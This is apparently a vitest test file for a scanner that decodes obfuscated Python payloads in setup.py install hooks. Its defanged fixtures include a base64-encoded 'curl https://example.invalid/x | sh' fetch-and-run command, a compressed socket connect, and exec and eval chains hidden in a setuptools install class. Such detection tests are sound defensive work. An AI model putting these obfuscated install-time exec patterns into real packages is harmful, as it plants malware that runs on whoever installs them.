import { beforeAll, describe, expect, it } from 'vitest';
import type { DecodedPayload, FileFacts } from '../../../src/model/index.js';
import type { PythonAnalyzer } from '../../../src/detectors/python/parser.js';
import { pythonAnalyzer } from '../../support/python-analyzer.js';

let analyzer: PythonAnalyzer;
beforeAll(async () => {
  analyzer = await pythonAnalyzer();
});

const analyze = (source: string, maxDecodeDepth?: number): FileFacts =>
  analyzer.analyze('setup.py', source, maxDecodeDepth === undefined ? {} : { maxDecodeDepth });
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const calleesOf = (p: DecodedPayload | undefined): string[] => p?.facts?.calls.map((c) => c.callee) ?? [];

// Defanged payloads: placeholder hosts, harmless commands.
const CURL = "import os; os.system('curl https://example.invalid/x | sh')";
/** zlib-compressed, then base64: a three-line socket connect. */
const ZLIB_B64 = 'eJzLzC3ILypRKM5Pzk4t4SpWsIUy9SCUhiZXsV5yfl5eanKJhoZ6akVibkFOql5mXlliTmaKuo6CCRBoanIBAIjpF3w=';
/** marshal.dumps(compile("import os\nos.system('echo marshalled')", ...)), base64. */
const MARSHAL =
  'YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAAAE56D2VjaG8gbWFyc2hhbGxlZCkC2gJvc9oGc3lzdGVtqQDzAAAAAPoDPHM++gg8bW9kdWxlPnIHAAAAAQAAAHMnAAAA8AMBAQHYAAmACYAJgAnYAAmAAoQJ0Aob0QAc1AAc0AAc0AAc0AAccgUAAAA=';

describe('python analyser: decoded payloads', () => {
  it('decodes what exec runs and analyses it as code, in the scope where it was decoded', () => {
    const f = analyze(
      [
        'import base64, zlib',
        'from setuptools.command.install import install',
        'class CustomInstall(install):',
        '    def run(self):',
        `        exec(base64.b64decode('${b64(CURL)}'))`,
        `        exec(zlib.decompress(base64.b64decode('${ZLIB_B64}')))`,
      ].join('\n'),
    );
    const [first, second] = f.decoded;
    expect(first).toMatchObject({ line: 5, scope: 'CustomInstall.run', steps: ['base64'], text: CURL });
    expect(calleesOf(first)).toEqual(['os.system']);
    expect(first?.facts?.calls[0]?.args[0]?.value).toBe('curl https://example.invalid/x | sh');
    expect(second).toMatchObject({ line: 6, scope: 'CustomInstall.run', steps: ['base64', 'zlib'] });
    expect(calleesOf(second)).toEqual(['socket.socket', 'socket.socket.connect']);
  });

  it('records a payload where it is decoded and where it runs, analysing it once', () => {
    const f = analyze(['import base64', `code = base64.b64decode('${b64(CURL)}')`, '', 'exec(code)'].join('\n'));
    expect(f.decoded.map((d) => [d.line, d.steps, d.text])).toEqual([
      [2, ['base64'], CURL],
      [4, ['base64'], CURL],
    ]);
    expect(f.decoded.filter((d) => d.facts).length).toBe(1);
  });

  it('analyses constant code given to exec, eval and compile, and Python 2 exec statements', () => {
    const f = analyze(
      [
        "exec(\"import os; os.system('whoami')\")",
        "eval(compile('__import__(\"os\").popen(\"id\")', '<x>', 'exec'))",
        'import codecs',
        "exec(codecs.decode(\"vzcbeg bf; bf.flfgrz('vq')\", 'rot13'))",
        "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
      ].join('\n'),
    );
    expect(f.decoded.map((d) => [d.line, d.steps, calleesOf(d)])).toEqual([
      [1, [], ['os.system']],
      [2, [], ['os.popen', 'builtins.__import__']],
      [4, ['rot13'], ['os.system']],
      [5, ['chr'], ['builtins.print']],
    ]);
    const py2 = analyze(`import base64\nexec base64.b64decode('${b64(CURL)}')\n`);
    expect(py2.calls.map((c) => c.callee)).toContain('builtins.exec');
    expect(py2.decoded[0]).toMatchObject({ line: 2, steps: ['base64'] });
    expect(calleesOf(py2.decoded[0])).toEqual(['os.system']);
    const py2method = analyze(`exec '${b64(CURL)}'.decode('base64')\n`);
    expect(py2method.calls.map((c) => c.callee)).toEqual(['builtins.exec']);
    expect(py2method.decoded[0]).toMatchObject({ line: 1, steps: ['base64'], text: CURL });
    expect(calleesOf(py2method.decoded[0])).toEqual(['os.system']);
  });

  it('decodes long base64 and hex string literals that hold readable text', () => {
    const hexed = Buffer.from("import subprocess; subprocess.call(['id'])").toString('hex');
    const f = analyze([`BLOB = '${b64(CURL)}'`, `HEXED = "${hexed}"`, "DIGEST = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'"].join('\n'));
    expect(f.decoded.map((d) => [d.line, d.steps])).toEqual([
      [1, ['base64']],
      [2, ['hex']],
    ]);
    expect(calleesOf(f.decoded[1])).toEqual(['subprocess.call']);
  });

  it('shows the strings of marshalled code', () => {
    const f = analyze(['import marshal, base64', `exec(marshal.loads(base64.b64decode('${MARSHAL}')))`].join('\n'));
    const m = f.decoded.find((d) => d.steps.includes('marshal'));
    expect(m?.steps).toEqual(['base64', 'marshal']);
    expect(m?.text).toContain('echo marshalled');
    expect(m?.facts).toBeUndefined();
  });

  it('stops analysing nested payloads at maxDecodeDepth', () => {
    let code = "import os; os.system('innermost')";
    for (let i = 0; i < 3; i++) code = `import base64; exec(base64.b64decode('${b64(code)}'))`;
    const depthOf = (f: FileFacts | undefined): number => (f?.decoded[0]?.facts ? 1 + depthOf(f.decoded[0].facts) : 0);
    expect(depthOf(analyze(code))).toBe(3);
    expect(depthOf(analyze(code, 1))).toBe(1);
    const deepest = analyze(code).decoded[0]?.facts?.decoded[0]?.facts?.decoded[0]?.facts;
    expect(deepest?.calls.map((c) => c.callee)).toEqual(['os.system']);
  });

  it('bounds the decoded bytes analysed per file', () => {
    // Six payloads of 300 KB: about 1 MB of them is analysed as code, all are shown.
    const big = (i: number): string => `x = ${i}\n${'# padding comment line\n'.repeat(13_000)}`;
    const lines = ['import base64'];
    for (let i = 0; i < 6; i++) lines.push(`exec(base64.b64decode('${b64(big(i))}'))`);
    const f = analyzer.analyze('setup.py', lines.join('\n'), { maxMillis: 60_000 });
    expect(f.decoded.length).toBe(6);
    expect(f.decoded.filter((d) => d.facts).length).toBe(4);
    expect(f.decoded.every((d) => d.text.length <= 4000)).toBe(true);
  });
});
